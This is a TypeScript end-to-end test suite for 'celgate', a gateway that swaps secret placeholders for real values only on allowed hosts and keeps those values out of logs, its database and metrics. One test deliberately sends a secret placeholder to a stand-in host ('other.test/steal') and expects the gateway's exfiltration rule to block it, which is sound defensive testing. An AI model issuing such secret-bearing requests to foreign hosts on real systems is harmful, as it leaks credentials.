/**
 * Secrets never enter the guest, end to end: a real gateway (`celgate start`) with secrets from
 * the environment and from a file, an HTTPS upstream that echoes what it received, and real
 * clients — curl, Node's fetch and Python's urllib — through the explicit proxy and (as root) from
 * a namespace guest. The upstream receives the real value; any other host gets a 403 naming the
 * secret; echoes come back as placeholders; a changed file is picked up on SIGHUP; and the random
 * values are found nowhere in session.db, its WAL, the log file or /metrics.
 */
import { execFile, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import http2 from 'node:http2';
import https from 'node:https';
import tls from 'node:tls';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { ProxyAgent, fetch as undiciFetch } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeCerts, type Certs } from '../../support/http-harness.js';
import { startGateway, type RunningTestGateway } from '../support/gateway.js';
import { GuestNamespace, netnsAvailability } from '../support/netns.js';
import { openTunnel } from '../../support/proxy-clients.js';

const run = promisify(execFile);
const HAVE_CURL = spawnSync('curl', ['--version']).status === 0;
const HAVE_PYTHON = spawnSync('python3', ['--version']).status === 0;

const ENV_VALUE = `sk-env-${randomBytes(12).toString('hex')}`;
const BODY_VALUE = `sk-body-${randomBytes(12).toString('hex')}`;
let fileValue = `sk-file-${randomBytes(12).toString('hex')}`;
const allValues = () => [ENV_VALUE, BODY_VALUE, fileValue];

let dir: string;
let secretFile: string;
let upCerts: Certs;
let upstream: https.Server;
const seen: { host: string; url: string; headers: Record<string, unknown>; body: string }[] = [];
let gw: RunningTestGateway;
let proxy: string;
let caFile: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'celgate-secrets-'));
  secretFile = join(dir, 'file-token');
  writeFileSync(secretFile, `${fileValue}\n`);
  upCerts = await makeCerts();
  writeFileSync(
    join(dir, 'rules.yaml'),
    `id: secret-rules\nversion: "1.0.0"\ndefault_action: allow\nrules:\n  - id: svc-no-delete\n    condition: '"svc" in http.request.secrets && http.request.method == "DELETE"'\n    action: block\n    reason: svc may not delete\n`,
  );
  writeFileSync(join(dir, 'upstream-ca.pem'), upCerts.caPem);
  upstream = https.createServer(
    {
      SNICallback: (name, cb) =>
        void upCerts.leaves.secureContext(name || 'localhost').then(
          (c) => cb(null, c),
          (e: Error) => cb(e),
        ),
    },
    (req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        const body = Buffer.concat(chunks).toString();
        seen.push({ host: req.headers.host ?? '', url: req.url ?? '', headers: req.headers, body });
        // Echo everything back, in a header and in the body, as a careless API would.
        res.writeHead(200, {
          'content-type': 'application/json',
          'x-echo-authorization': String(req.headers.authorization ?? ''),
        });
        res.end(
          JSON.stringify({
            url: req.url,
            authorization: req.headers.authorization ?? null,
            apiKey: req.headers['x-api-key'] ?? null,
            body,
          }),
        );
      });
    },
  );
  await new Promise<void>((r) => upstream.listen(0, '127.0.0.1', () => r()));
  const up = (upstream.address() as AddressInfo).port;
  gw = await startGateway({
    env: { CELGATE_TEST_SVC_KEY: ENV_VALUE, CELGATE_TEST_BODY_KEY: BODY_VALUE },
    config: {
      vsock: {
        mode: 'uds',
        uds_base: join(dir, 'vsock'),
        ports: { http: 5002, mcp: 5003, dns: 5007, exec: 5000 },
      },
      log: { file: join(dir, 'gateway.log') },
      rules: [join(dir, 'rules.yaml')],
      http: {
        ca_dir: join(dir, 'certs'),
        extra_ca: [join(dir, 'upstream-ca.pem')],
        upstream_map: {
          'api.test': `127.0.0.1:${up}`,
          'uploads.api.test': `127.0.0.1:${up}`,
          'other.test': `127.0.0.1:${up}`,
        },
      },
      dns: {
        upstreams: [],
        static: {
          'api.test': ['203.0.113.10'],
          'uploads.api.test': ['203.0.113.10'],
          'other.test': ['203.0.113.11'],
        },
      },
      secrets: [
        { id: 'svc', env: 'CELGATE_TEST_SVC_KEY', hosts: ['api.test'] },
        { id: 'filetok', file: secretFile, hosts: ['api.test'] },
        { id: 'bodytok', env: 'CELGATE_TEST_BODY_KEY', hosts: ['*.api.test'], in_body: true },
      ],
    },
  });
  proxy = `http://${gw.listeners.proxy}`;
  caFile = join(dir, 'certs', 'ca.cert.pem');
});

afterAll(async () => {
  await gw?.stop();
  upstream?.closeAllConnections();
  upstream?.close();
  upCerts?.cleanup();
});

const lastSeen = () => seen.at(-1)!;

describe('secrets through the explicit proxy', () => {
  it.skipIf(!HAVE_CURL)(
    'curl: the upstream gets the real value in a header and the query; the guest sees only placeholders',
    async () => {
      const r = await run('curl', [
        '-sS',
        '-D',
        '-',
        '--cacert',
        caFile,
        '-x',
        proxy,
        '-H',
        'Authorization: Bearer celgate-secret-svc',
        'https://api.test/v1/echo?key=celgate-secret-filetok',
      ]);
      expect(lastSeen().headers.authorization).toBe(`Bearer ${ENV_VALUE}`);
      expect(lastSeen().url).toBe(`/v1/echo?key=${fileValue}`);
      expect(r.stdout).toMatch(/x-echo-authorization: Bearer celgate-secret-svc\r\n/i);
      // curl prints the proxy's CONNECT answer first; the body follows the last header block.
      const body = JSON.parse(r.stdout.slice(r.stdout.lastIndexOf('\r\n\r\n') + 4));
      expect(body).toMatchObject({
        authorization: 'Bearer celgate-secret-svc',
        url: '/v1/echo?key=celgate-secret-filetok',
      });
      for (const v of allValues()) expect(r.stdout).not.toContain(v);
    },
  );

  it.skipIf(!HAVE_CURL)(
    'curl -u: a placeholder in Basic credentials is substituted inside the base64',
    async () => {
      await run('curl', [
        '-sS',
        '--cacert',
        caFile,
        '-x',
        proxy,
        '-u',
        'agent:celgate-secret-svc',
        'https://api.test/basic',
      ]);
      expect(lastSeen().headers.authorization).toBe(
        `Basic ${Buffer.from(`agent:${ENV_VALUE}`).toString('base64')}`,
      );
    },
  );

  it('Node fetch: a placeholder headed for another host is refused with a 403 naming the secret and the host', async () => {
    const before = seen.length;
    const res = await undiciFetch('https://other.test/steal', {
      headers: { 'x-api-key': 'celgate-secret-svc', accept: 'application/json' },
      dispatcher: new ProxyAgent({ uri: proxy, requestTls: { ca: readFileSync(caFile, 'utf8') } }),
    });
    expect(res.status).toBe(403);
    const body = (await res.json()) as { rule_id: string; reason: string };
    expect(body.rule_id).toBe('celgate.secret-exfiltration');
    expect(body.reason).toContain('secret "svc" may not be sent to other.test');
    expect(seen.length).toBe(before);
  });

  it('Node fetch: rules see http.request.secrets (a rule blocks DELETE carrying svc; GET passes)', async () => {
    const dispatcher = new ProxyAgent({
      uri: proxy,
      requestTls: { ca: readFileSync(caFile, 'utf8') },
    });
    const del = await undiciFetch('https://api.test/item', {
      method: 'DELETE',
      headers: { authorization: 'Bearer celgate-secret-svc' },
      dispatcher,
    });
    expect(del.status).toBe(403);
    expect(await del.text()).toContain('svc-no-delete');
    const get = await undiciFetch('https://api.test/item', {
      headers: { authorization: 'Bearer celgate-secret-svc' },
      dispatcher,
    });
    expect(get.status).toBe(200);
    await get.text();
  });

  it('Node fetch: an unknown secret id is refused, named', async () => {
    const res = await undiciFetch('https://api.test/x', {
      headers: { authorization: 'Bearer celgate-secret-nosuch' },
      dispatcher: new ProxyAgent({ uri: proxy, requestTls: { ca: readFileSync(caFile, 'utf8') } }),
    });
    expect(res.status).toBe(403);
    expect(await res.text()).toContain('unknown secret "nosuch"');
  });

  it('Node fetch: a secret with in_body is substituted in a text body (length follows) only for its hosts', async () => {
    const dispatcher = new ProxyAgent({
      uri: proxy,
      requestTls: { ca: readFileSync(caFile, 'utf8') },
    });
    const res = await undiciFetch('https://uploads.api.test/upload', {
      method: 'POST',
      body: JSON.stringify({ token: 'celgate-secret-bodytok', note: 'x' }),
      headers: { 'content-type': 'application/json' },
      dispatcher,
    });
    expect(res.status).toBe(200);
    expect(lastSeen().body).toBe(JSON.stringify({ token: BODY_VALUE, note: 'x' }));
    expect(Number(lastSeen().headers['content-length'])).toBe(Buffer.byteLength(lastSeen().body));
    // The echo of the body comes back with the placeholder.
    expect(await res.text()).toContain('celgate-secret-bodytok');
    // A secret without in_body is not substituted in a body (and not counted there).
    await undiciFetch('https://api.test/upload', {
      method: 'POST',
      body: 'k=celgate-secret-svc',
      dispatcher,
    });
    expect(lastSeen().body).toBe('k=celgate-secret-svc');
  });

  it('Node http2 through a CONNECT tunnel: substituted on an HTTP/2 stream, echoed back as the placeholder, another host refused', async () => {
    const { socket } = await openTunnel(Number(proxy.split(':').pop()), 'api.test:443');
    const session = http2.connect('https://api.test', {
      createConnection: () =>
        tls.connect({
          socket,
          servername: 'api.test',
          ca: readFileSync(caFile, 'utf8'),
          ALPNProtocols: ['h2'],
        }),
    });
    session.on('error', () => {});
    const get = (path: string, authority = 'api.test') =>
      new Promise<{ status: number; body: string }>((resolve, reject) => {
        const req = session.request({
          ':path': path,
          ':authority': authority,
          authorization: 'Bearer celgate-secret-svc',
        });
        let status = 0;
        const chunks: Buffer[] = [];
        req.on('response', (h) => (status = Number(h[':status'])));
        req.on('data', (c: Buffer) => chunks.push(c));
        req.on('end', () => resolve({ status, body: Buffer.concat(chunks).toString() }));
        req.on('error', reject);
      });
    try {
      const r = await get('/h2');
      expect((session.socket as tls.TLSSocket).alpnProtocol).toBe('h2');
      expect(r.status).toBe(200);
      expect(lastSeen().headers.authorization).toBe(`Bearer ${ENV_VALUE}`);
      expect(JSON.parse(r.body).authorization).toBe('Bearer celgate-secret-svc');
    } finally {
      session.close();
    }
  });

  it.skipIf(!HAVE_PYTHON)(
    'Python urllib through HTTPS_PROXY: the real value upstream, the placeholder back',
    async () => {
      const py = `import urllib.request,ssl,json
ctx=ssl.create_default_context(cafile=${JSON.stringify(caFile)})
opener=urllib.request.build_opener(urllib.request.ProxyHandler({'https':${JSON.stringify(proxy)}}),urllib.request.HTTPSHandler(context=ctx))
r=opener.open(urllib.request.Request('https://api.test/py',headers={'X-Api-Key':'celgate-secret-svc'}))
print(r.read().decode())`;
      const r = await run('python3', ['-c', py]);
      expect(lastSeen().headers['x-api-key']).toBe(ENV_VALUE);
      expect(JSON.parse(r.stdout)).toMatchObject({ apiKey: 'celgate-secret-svc' });
    },
  );

  it.skipIf(!HAVE_CURL)('picks up a changed file-sourced secret on SIGHUP', async () => {
    fileValue = `sk-file-${randomBytes(12).toString('hex')}`;
    writeFileSync(secretFile, fileValue);
    gw.process.kill('SIGHUP');
    await new Promise((r) => setTimeout(r, 500));
    await run('curl', [
      '-sS',
      '--cacert',
      caFile,
      '-x',
      proxy,
      '-H',
      'x-api-key: celgate-secret-filetok',
      'https://api.test/after-reload',
    ]);
    expect(lastSeen().headers['x-api-key']).toBe(fileValue);
  });
});

const avail = netnsAvailability();
describe.skipIf(!avail.ok)(
  `secrets from a namespace guest${avail.ok ? '' : ` (skipped: ${avail.reason})`}`,
  () => {
    let guest: GuestNamespace;
    beforeAll(async () => {
      guest = await GuestNamespace.create({
        udsBase: join(dir, 'vsock'),
        workDir: join(dir, 'guest'),
      });
    });
    afterAll(async () => guest?.destroy());

    it.skipIf(!HAVE_CURL)(
      'curl in the guest (vsock port, intercepted): real value upstream, placeholder back, other host refused',
      async () => {
        const ok = await guest.run([
          'curl',
          '-sS',
          '--max-time',
          '10',
          '--cacert',
          caFile,
          '-H',
          'Authorization: Bearer celgate-secret-svc',
          'https://api.test/guest',
        ]);
        expect(ok.stderr).toBe('');
        expect(lastSeen()).toMatchObject({ url: '/guest' });
        expect(lastSeen().headers.authorization).toBe(`Bearer ${ENV_VALUE}`);
        expect(JSON.parse(ok.stdout).authorization).toBe('Bearer celgate-secret-svc');
        const refused = await guest.run([
          'curl',
          '-sS',
          '--max-time',
          '10',
          '--cacert',
          caFile,
          '-w',
          '%{http_code}',
          '-o',
          '/dev/null',
          '-H',
          'Authorization: Bearer celgate-secret-svc',
          'https://other.test/guest',
        ]);
        expect(refused.stdout).toBe('403');
      },
    );

    it.skipIf(!HAVE_PYTHON)('Python urllib in the guest', async () => {
      const py = `import urllib.request,ssl
ctx=ssl.create_default_context(cafile=${JSON.stringify(caFile)})
print(urllib.request.urlopen(urllib.request.Request('https://api.test/guest-py',headers={'X-Api-Key':'celgate-secret-svc'}),context=ctx).read().decode())`;
      const r = await guest.run(['python3', '-c', py]);
      expect(r.stderr).toBe('');
      expect(lastSeen().headers['x-api-key']).toBe(ENV_VALUE);
      expect(JSON.parse(r.stdout).apiKey).toBe('celgate-secret-svc');
    });
  },
);

describe('the values are nowhere but upstream', () => {
  it('records the exfiltration attempt as a block with a high finding, and no value in session.db, its WAL, the log or /metrics', async () => {
    const metrics = (await gw.api('GET', '/metrics')).text;
    const events = (await gw.api('GET', '/v1/events?limit=1000')).json.events as {
      rule_id: string | null;
      decision: string;
    }[];
    expect(
      events.some((e) => e.rule_id === 'celgate.secret-exfiltration' && e.decision === 'block'),
    ).toBe(true);
    const scan = () => {
      const files = [
        ...readdirSync(gw.sessionDir).map((f) => join(gw.sessionDir, f)),
        join(dir, 'gateway.log'),
      ];
      for (const f of files.filter((f) => existsSync(f))) {
        const bytes = readFileSync(f);
        for (const v of allValues()) expect(bytes.includes(v), `${v} in ${f}`).toBe(false);
      }
    };
    scan();
    for (const v of allValues()) expect(metrics).not.toContain(v);
    await gw.stop();
    scan();
    const Database = (await import('better-sqlite3')).default;
    const db = new Database(gw.sessionDb, { readonly: true });
    const findings = db
      .prepare(
        "SELECT severity FROM detection_findings WHERE rule_id = 'celgate.secret-exfiltration'",
      )
      .all() as { severity: string }[];
    db.close();
    expect(findings.length).toBeGreaterThan(0);
    expect(findings.every((f) => f.severity === 'high')).toBe(true);
  });
});
